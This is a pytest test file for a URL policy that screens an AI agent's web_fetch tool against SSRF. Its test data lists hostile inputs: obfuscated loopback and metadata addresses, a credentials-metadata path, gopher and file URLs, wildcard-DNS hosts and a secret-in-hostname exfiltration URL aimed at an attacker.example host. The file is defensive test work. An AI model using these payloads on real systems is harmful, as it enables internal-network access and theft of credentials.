"""URL checks: schemes, SSRF host forms, DNS through an injected resolver, rules, redirect hops.

No test touches the network: every name is resolved by a stub (or ``socket.getaddrinfo`` is
replaced).
"""

from __future__ import annotations

import ipaddress
import socket
from collections.abc import Iterable

import pytest

from cairn.policy import Rules, check_url, evaluate
from cairn.policy.urls import no_dns, parse_ipv4


def _resolver(table: dict[str, list[str]]):
    calls: list[str] = []

    def resolve(host: str) -> Iterable[str]:
        calls.append(host)
        return table.get(host, [])

    resolve.calls = calls  # type: ignore[attr-defined]
    return resolve


PUBLIC = _resolver({"docs.python.org": ["151.101.0.223"], "example.com": ["93.184.216.34"]})


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("127.0.0.1", "127.0.0.1"),
        ("2130706433", "127.0.0.1"),
        ("0x7f000001", "127.0.0.1"),
        ("0177.0.0.1", "127.0.0.1"),
        ("127.1", "127.0.0.1"),
        ("0x7f.1", "127.0.0.1"),
        ("0", "0.0.0.0"),
        ("169.254.43518", "169.254.169.254"),
        ("0xa9.0xfe.0xa9.0xfe", "169.254.169.254"),
    ],
)
def test_parse_ipv4_reads_every_inet_aton_form(text: str, address: str) -> None:
    assert parse_ipv4(text) == ipaddress.IPv4Address(address)


@pytest.mark.parametrize(
    "text", ["256.0.0.1", "1.2.3.4.5", "09.0.0.1", "example.com", "1..2", "1.2.3.256", ""]
)
def test_parse_ipv4_rejects_what_is_not_an_address(text: str) -> None:
    assert parse_ipv4(text) is None


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1/",
        "http://localhost:8000/",
        "http://[::1]/",
        "http://[::ffff:127.0.0.1]/",
        "http://[::ffff:7f00:1]/",
        "http://[::127.0.0.1]/",  # IPv4-compatible
        "http://[64:ff9b::a9fe:a9fe]/",  # NAT64 prefix embedding 169.254.169.254
        "http://[2002:a9fe:a9fe::]/",  # 6to4 embedding 169.254.169.254
        "http://169.254.169.254/latest/meta-data/",
        "http://10.1.2.3/",
        "http://172.31.255.255/",
        "http://192.168.0.10/",
        "http://100.64.0.1/",
        "http://0.0.0.0/",
        "http://[::]/",
        "http://[fe80::1%25eth0]/",
        "http://224.0.0.1/",
        "http://2130706433/",
        "http://0x7f000001/",
        "http://0177.0.0.1/",
        "http://service.internal/",
        "http://printer.local/",
        "http://metadata.google.internal/",
        "http://127.0.0.1.nip.io/",
        "http://10-0-0-1.sslip.io/",
        "http://app.localtest.me/",
    ],
)
def test_internal_hosts_are_denied_without_dns(url: str) -> None:
    verdict = check_url(url, resolver=no_dns)
    assert verdict.decision == "deny", verdict
    assert verdict.risk == "HIGH"


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "gopher://127.0.0.1:6379/_INFO",
        "ftp://example.com/x",
        "javascript:alert(1)",
        "data:text/html,hi",
        "dict://127.0.0.1:11211/",
        "//example.com/relative",
        "example.com",
    ],
)
def test_only_http_and_https_may_be_fetched(url: str) -> None:
    verdict = check_url(url, resolver=PUBLIC)
    assert verdict.decision == "deny" and "only http and https" in verdict.reason


@pytest.mark.parametrize(
    "url",
    [
        "http://example.com /x",
        "http://example.com\\@127.0.0.1/",
        "http://exa\tmple.com/",
        "http://example.com:99999/",
        "http://ex%61mple.com/",
        "http://[::1/",
    ],
)
def test_malformed_urls_are_denied(url: str) -> None:
    assert check_url(url, resolver=PUBLIC).decision == "deny"


def test_public_host_asks_and_a_domain_rule_allows() -> None:
    assert check_url("https://docs.python.org/3/", resolver=PUBLIC).decision == "ask"
    rules = Rules(allow=["web_fetch(domain:docs.python.org)"])
    verdict = check_url("https://DOCS.python.org./3/", rules=rules, resolver=PUBLIC)
    assert verdict.decision == "allow" and verdict.rule == "web_fetch(domain:docs.python.org)"
    wildcard = Rules(allow=["web_fetch(domain:*.python.org)"])
    assert check_url("https://docs.python.org/", rules=wildcard, resolver=PUBLIC).decision == "allow"
    assert check_url("https://python.org.evil.example/", rules=wildcard, resolver=PUBLIC).decision == "ask"


def test_names_resolving_to_internal_addresses_are_denied() -> None:
    resolver = _resolver({"intranet.example": ["93.184.216.34", "10.0.0.7"]})
    verdict = check_url("https://intranet.example/wiki", resolver=resolver)
    assert verdict.decision == "deny" and "10.0.0.7" in verdict.reason
    assert resolver.calls == ["intranet.example"]  # type: ignore[attr-defined]


def test_ip_literals_are_not_resolved() -> None:
    resolver = _resolver({})
    check_url("http://93.184.216.34/", resolver=resolver)
    check_url("http://[2606:2800:220:1::]/", resolver=resolver)
    assert resolver.calls == []  # type: ignore[attr-defined]


def test_an_exact_domain_rule_lifts_the_ssrf_refusal_but_a_wildcard_does_not() -> None:
    resolver = _resolver({"wiki.corp.example": ["10.0.0.7"]})
    exact = Rules(allow=["web_fetch(domain:wiki.corp.example)"])
    assert check_url("https://wiki.corp.example/", rules=exact, resolver=resolver).decision == "allow"
    wildcard = Rules(allow=["web_fetch(domain:*.corp.example)"])
    verdict = check_url("https://wiki.corp.example/", rules=wildcard, resolver=resolver)
    assert verdict.decision == "deny" and "web_fetch(domain:wiki.corp.example)" in verdict.reason
    bare = Rules(allow=["web_fetch"])
    assert check_url("http://127.0.0.1/", rules=bare, resolver=resolver).decision == "deny"


def test_deny_and_ask_rules_for_domains() -> None:
    rules = Rules(allow=["web_fetch(domain:*.example.com)"], deny=["web_fetch(domain:evil.example.com)"])
    verdict = check_url("https://evil.example.com/", rules=rules, resolver=PUBLIC)
    assert verdict.decision == "deny" and verdict.rule == "web_fetch(domain:evil.example.com)"
    rules = Rules(allow=["web_fetch(domain:*.example.com)"], ask=["web_fetch(domain:uploads.example.com)"])
    assert check_url("https://uploads.example.com/", rules=rules, resolver=PUBLIC).decision == "ask"


def test_credentials_in_the_url_ask_even_with_a_rule() -> None:
    rules = Rules(allow=["web_fetch(domain:example.com)"])
    verdict = check_url("https://user:token@example.com/", rules=rules, resolver=PUBLIC)
    assert verdict.decision == "ask" and "credentials" in verdict.reason


def test_every_redirect_hop_is_checked_on_its_own() -> None:
    """The web tool calls check_url for each hop; an internal hop is refused mid-chain."""
    rules = Rules(allow=["web_fetch(domain:example.com)"])
    hops = [
        "https://example.com/start",
        "https://example.com/next",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    ]
    decisions = [str(check_url(hop, rules=rules, resolver=PUBLIC).decision) for hop in hops]
    assert decisions == ["allow", "allow", "deny"]


def test_system_resolver_is_used_by_default(monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[str] = []

    def fake_getaddrinfo(host, *args, **kwargs):
        seen.append(host)
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("192.168.1.20", 0))]

    monkeypatch.setattr(socket, "getaddrinfo", fake_getaddrinfo)
    assert check_url("https://router.example/").decision == "deny"
    assert seen == ["router.example"]


def test_resolve_dns_false_never_resolves(monkeypatch: pytest.MonkeyPatch, workspace: str) -> None:
    def no_network(*args, **kwargs):
        raise AssertionError("DNS must not be used")

    monkeypatch.setattr(socket, "getaddrinfo", no_network)
    verdict = evaluate("web_fetch", {"url": "https://example.com/"}, workspace=workspace, resolve_dns=False)
    assert verdict.decision == "ask"
    verdict = evaluate("WebFetch", {"url": "http://[::1]/"}, workspace=workspace, resolve_dns=False)
    assert verdict.decision == "deny"


def test_resolver_failure_is_not_a_pass(monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*args, **kwargs):
        raise socket.gaierror("no such host")

    monkeypatch.setattr(socket, "getaddrinfo", fail)
    assert check_url("https://does-not-resolve.example/").decision == "ask"  # still needs a person


def test_web_fetch_without_a_url_is_not_allowed(workspace: str) -> None:
    for args in ({}, {"url": ""}, {"url": 42}):
        assert evaluate("web_fetch", args, workspace=workspace, resolve_dns=False).decision == "ask"


def test_evaluate_resolves_no_dns_name_before_approval(tmp_path, monkeypatch):
    """A rejected web_fetch to https://<secret>.attacker.example must not have leaked the secret
    through a DNS query: the policy judges host names by their text."""
    import socket

    from cairn.policy import evaluate

    def no_lookups(*args, **kwargs):
        raise AssertionError(f"DNS lookup during evaluation: {args}")

    monkeypatch.setattr(socket, "getaddrinfo", no_lookups)
    monkeypatch.setattr(socket, "gethostbyname", no_lookups)
    verdict = evaluate("web_fetch", {"url": "https://s3cr3t-t0ken.attacker.example/x"}, workspace=tmp_path)
    assert verdict.decision == "ask"
    verdict = evaluate("web_fetch", {"url": "http://127.0.0.1.nip.io/"}, workspace=tmp_path)
    assert verdict.decision == "deny"  # wildcard-DNS names are still judged by their text
